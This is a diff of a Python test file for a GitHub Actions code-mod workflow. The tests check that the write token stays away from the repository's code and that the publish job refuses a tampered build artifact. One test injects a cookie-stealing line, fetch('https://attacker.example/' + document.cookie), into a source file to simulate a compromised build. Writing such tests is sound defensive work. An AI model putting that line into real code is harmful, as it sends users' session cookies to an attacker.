@@ -1,99 +1,92 @@
-"""The action's `run:` scripts executed (tests/action_canary.py): the token
-reaches git's network calls alone, and only the repository's own pull
-request is ever edited."""
+"""The example workflow's two jobs run as a runner runs them
+(tests/workflow_run.py), with canaries committed in the repository
+(tests/workflow_canary.py): the write token reaches nothing of the
+repository's, the job that runs the repository's code holds no write
+token, and the publish job pushes only the tool's own work."""
 
 from __future__ import annotations
 
 import json
+import shutil
 from pathlib import Path
 
-import pytest
-
-from .action_canary import pr_step_with_canaries, run_step
+from . import workflow_canary
+from .canary import executable
 from .gitrepo import BOT, git, with_remote
+from .test_publish import _append, _tampered
+from .workflow_run import READ_TOKEN, WRITE_TOKEN, Runner
+
+BRANCH = "codemod/app-state"
 
 
-def test_the_actions_run_with_a_canary_token_shows_it_only_to_gits_network_calls(tmp_path: Path) -> None:
-    found = pr_step_with_canaries(tmp_path)
-    assert found["exit"] == 0, found["stderr"]
-    assert "pushed=true" in found["outputs"] and found["remote_branch"] == "refs/heads/codemod/app-state"
-    assert set(found["checks"].values()) == {"passed"}, found["checks"]
-    assert {"biome", "oxlint", "bun-run", "bun-test"} <= set(found["tools"])
-    assert not found["poisoned_bun_ran"]
-    assert found["leaks"] == []
-    with_token = {sub for sub, mark in found["git_calls"] if mark == "token"}
-    assert with_token == {"ls-remote", "push"}, found["git_calls"]
-
-
-def _listed(number: int, owner: str, state: str = "open") -> dict:
-    return {
-        "number": number, "state": state, "merged_at": None, "title": "t", "body": "",
-        "head": {"ref": "codemod/app-state", "repo": {"full_name": f"{owner}/mesh", "owner": {"login": owner}}},
-        "base": {"ref": "main"},
+def test_the_example_workflow_with_canaries_shows_the_write_token_to_nothing(tmp_path: Path) -> None:
+    found = workflow_canary.run(tmp_path)
+    build, publish = found["jobs"]
+    assert build.ok and publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in build.steps + publish.steps]
+    # the job that runs the repository's code has read permissions and no write token
+    assert build.permissions == {"contents": "read"}
+    assert publish.permissions == {"contents": "write", "pull-requests": "write"}
+    # the canaries ran where the repository's code runs: the install step,
+    # the checkout's Biome and tests; their GITHUB_PATH and GITHUB_ENV
+    # reached the build job's later steps (which hold no token)
+    assert {"ancestors-step", "ancestors-check", "late-check", "evil-git", "bash-env"} <= {
+        name.split(".")[0] for name in found["logs"]
     }
+    assert found["seen"][WRITE_TOKEN] == [], found["seen"]
+    # no json.py was imported: Python runs isolated, outside the checkout
+    assert not [name for name in found["logs"] if name.startswith("json-py")]
+    # nothing a check left behind outlived it: not one of them was left for
+    # the runner's end-of-job cleanup; nothing is alive now
+    checks = [pid for pid, origin in found["scanners"].items() if origin == "check"]
+    assert checks and not set(checks) & set(build.killed)
+    assert found["alive"] == []
+    # the token reached git's network calls alone, in the publish job
+    assert {sub for sub, mark in found["git_calls"] if mark == "token"} <= {"ls-remote", "fetch", "push"}
+    # the publish job pushed the build's branch and opened the PR
+    assert found["remote_branch"] == found["manifest"]["tip"]
+    assert [(p["number"], p["state"]) for p in found["pulls"]] == [(1, "open")]
 
 
-OURS = _listed(3, "decocms")
-FORK = _listed(7, "mallory")
-OTHER_OWNER = _listed(8, "eve")
+def _runner(tmp: Path, remote: Path, **build_inputs: str) -> Runner:
+    path_dir = tmp / "bin"
+    path_dir.mkdir(parents=True)
+    shutil.copy(workflow_canary.FAKES / "gh", path_dir / "gh")
+    executable(path_dir / "bun", "#!/usr/bin/env bash\nexit 0\n")
+    github = tmp / "github.json"
+    github.write_text(json.dumps({"repo": "decocms/mesh", "pulls": [], "comments": {}, "calls": []}))
+    return Runner(tmp, remote, path_dir, extra_env={"FAKE_GH_STATE": str(github)},
+                  with_inputs={"mesh-codemod": {"author": BOT, **build_inputs}, "mesh-codemod/publish": {"author": BOT}})
 
 
-@pytest.mark.parametrize(
-    ("listed", "expected"),
-    [
-        ([FORK, OURS], ["PATCH", "repos/decocms/mesh/pulls/3"]),
-        ([OTHER_OWNER, FORK, OURS], ["PATCH", "repos/decocms/mesh/pulls/3"]),
-        ([FORK], ["POST", "repos/decocms/mesh/pulls"]),
-        ([], ["POST", "repos/decocms/mesh/pulls"]),
-    ],
-    ids=["fork-first", "other-owner-first", "fork-only", "none"],
-)
-def test_only_the_repositorys_own_pr_is_edited(tmp_path: Path, listed: list, expected: list) -> None:
-    """A listing that holds a fork's PR from a branch of the same name, and
-    newer (the stand-in ignores the head filter, as a careless server
-    would): the step edits only the repository's own PR."""
-    from .team_action import FAKE_GH
-
-    path_dir, temp = tmp_path / "bin", tmp_path / "runner-temp"
-    path_dir.mkdir()
-    temp.mkdir()
-    (path_dir / "gh").symlink_to(FAKE_GH)
-    (temp / "mesh-codemod-body.md").write_text("the body\n")
-    report = {"commits": [{"sha": "1" * 40}], "fingerprint": "sha256:" + "c" * 64}
-    (temp / "mesh-codemod-report.json").write_text(json.dumps(report))
-    state = tmp_path / "github.json"
-    state.write_text(json.dumps({"repo": "decocms/mesh", "pulls": listed, "ignore_head_filter": True}))
-    env = {
-        "GH_TOKEN": "ghs_fake", "GH_REPO": "decocms/mesh", "FAKE_GH_STATE": str(state),
-        "BRANCH": "codemod/app-state", "BASE_BRANCH": "main", "RUNNER_TEMP": str(temp),
-    }
-    result = run_step("Open or update the pull request", env, path_dir, tmp_path)
-    assert result.returncode == 0, result.stderr
-    writes = [call[2:4] for call in json.loads(state.read_text())["calls"] if "-X" in call]
-    assert writes == [expected]
-
-
-@pytest.mark.parametrize(("require", "exit_code", "pushed"), [(None, 4, False), ("false", 0, True)])
-def test_the_action_requires_the_checks_unless_told_not_to(
-    tmp_path: Path, require: str | None, exit_code: int, pushed: bool
-) -> None:
-    """A checkout whose dependencies are not installed: by default the run
-    stops with exit 4 and pushes nothing; `require-checks: false` reports
-    the checks as not available and goes on."""
+def test_a_compromised_build_jobs_branch_is_refused_by_the_publish_job(tmp_path: Path) -> None:
+    """The build job runs the repository's code, so its artifact is not
+    trusted: a line added to the tool's file, under the tool's name and
+    trailers, with the bundle and manifest made to match, is refused."""
     remote, work = with_remote(tmp_path)
-    path_dir, temp = tmp_path / "bin", tmp_path / "runner-temp"
-    path_dir.mkdir()
-    temp.mkdir()
-    env = {
-        "REPO": str(work), "AUTHOR": BOT, "RUNNER_TEMP": str(temp), "MESH_CODEMOD_GIT_TOKEN": "ghs_fake",
-        "GITHUB_OUTPUT": str(temp / "output"), "GITHUB_STEP_SUMMARY": str(temp / "summary"),
-        "MESH_CODEMOD_CACHE": str(tmp_path / "cache"),
-    }
-    if require is not None:
-        env["REQUIRE_CHECKS"] = require
-    result = run_step("Build, verify and push the branch", env, path_dir, work)
-    assert result.returncode == exit_code, result.stderr
-    outcomes = {c["check"]: c["outcome"] for c in json.loads((temp / "mesh-codemod-report.json").read_text())["verify"]["checks"]}
-    assert outcomes["format"] == ("not available" if pushed else "failed")
-    branches = git(remote, "for-each-ref", "--format=%(refname)", "refs/heads/codemod")
-    assert branches.strip() == ("refs/heads/codemod/app-state" if pushed else "")
+    runner = _runner(tmp_path, remote, **{"require-checks": "false"})
+    jobs = runner.workflow["jobs"]
+    build = runner.run_job("build", jobs["build"])
+    assert build.ok
+    artifact = runner.artifacts / "mesh-codemod-artifact"
+    built = tmp_path / "job-build" / "workspace"
+    _tampered(built, artifact, _append("apps/mesh/src/mcp-apps/app-state.ts",
+                                      'fetch("https://attacker.example/" + document.cookie);\n'))
+    publish = runner.run_job("publish", jobs["publish"])
+    check = next(s for s in publish.steps if s.name == "Check the artifact")
+    assert check.exit == 3 and "by more than layout" in check.stderr
+    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
+    assert json.loads((tmp_path / "github.json").read_text())["pulls"] == []
+
+
+def test_the_build_job_requires_the_checks_unless_told_not_to(tmp_path: Path) -> None:
+    """Nothing installed: by default the build job stops with exit 4 and
+    the publish job does not run; `require-checks: false` reports the
+    checks as not available and the branch is published."""
+    remote, _ = with_remote(tmp_path / "a")
+    strict = _runner(tmp_path / "a", remote).run()
+    assert [j.name for j in strict] == ["build"]
+    assert next(s for s in strict[0].steps if s.name == "Build and verify the branch").exit == 4
+    lenient = _runner(tmp_path / "b", remote, **{"require-checks": "false"}).run()
+    assert [j.name for j in lenient] == ["build", "publish"] and all(j.ok for j in lenient)
+    assert git(remote, "for-each-ref", "--format=%(refname)", f"refs/heads/{BRANCH}").strip() == f"refs/heads/{BRANCH}"
+    assert READ_TOKEN != WRITE_TOKEN
